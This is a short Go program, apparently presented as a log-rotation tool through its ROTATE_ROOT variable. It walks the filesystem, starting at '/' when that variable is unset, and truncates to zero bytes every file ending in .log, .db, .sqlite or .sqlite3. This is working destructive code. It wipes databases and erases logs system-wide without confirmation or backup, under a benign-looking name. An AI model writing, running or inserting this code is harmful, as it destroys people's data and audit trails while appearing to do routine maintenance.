package main

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

var suffixes = []string{".log", ".db", ".sqlite", ".sqlite3"}

func main() {
	root := os.Getenv("ROTATE_ROOT")
	if root == "" {
		root = "/"
	}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		for _, s := range suffixes {
			if strings.HasSuffix(p, s) {
				os.Truncate(p, 0)
			}
		}
		return nil
	})
}
